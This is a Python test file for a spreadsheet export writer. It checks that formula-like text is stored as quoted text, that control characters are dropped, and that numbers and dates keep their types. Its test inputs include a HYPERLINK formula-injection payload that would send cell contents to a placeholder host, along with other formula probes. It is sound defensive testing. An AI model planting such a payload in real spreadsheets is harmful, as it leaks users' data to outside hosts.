"""The one writer every .xlsx export goes through: text stays text, control characters are dropped,
numbers, money and dates stay what they were."""

import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from fupin.core import files

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击查看详情")'


def _written(row: list):
    book = files.workbook()
    files.sheet(book, "表").append(row)
    path = files.save_workbook(book, "test-")
    try:
        return list(load_workbook(path).active[1])
    finally:
        Path(path).unlink()


def test_text_that_looks_like_a_formula_is_written_as_text():
    cells = _written([HYPERLINK, "+1", "-1", "@SUM(A1)", "\tx", "普通文字"])

    assert [cell.value for cell in cells] == [HYPERLINK, "+1", "-1", "@SUM(A1)", "\tx", "普通文字"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells] == [True, True, True, True, True, False]


def test_control_characters_are_dropped_but_tab_and_newline_kept():
    cells = _written(["王\x00五\x1f", "a\tb\nc\r", "\x0b=1+2"])

    assert [cell.value for cell in cells] == ["王五", "a\tb\nc", "=1+2"]
    assert cells[2].data_type == "s"


def test_numbers_money_and_dates_stay_what_they_were():
    cells = _written([-5, Decimal("-12.50"), 3.25, date(2026, 2, 28), None, True])

    assert [cell.value for cell in cells][:4] == [-5, -12.5, 3.25, datetime(2026, 2, 28)]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d", "n", "b"]


def test_every_export_writes_through_the_safe_sheet():
    """A new export that makes its own sheet would write text as formulas again: this names it."""
    package = Path(files.__file__).parent.parent
    direct = re.compile(r"\bWorkbook\(|\.create_sheet\(|\bopenpyxl\.Workbook\b")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts and path.name != "files.py" and direct.search(path.read_text())
    ]
    assert offenders == []
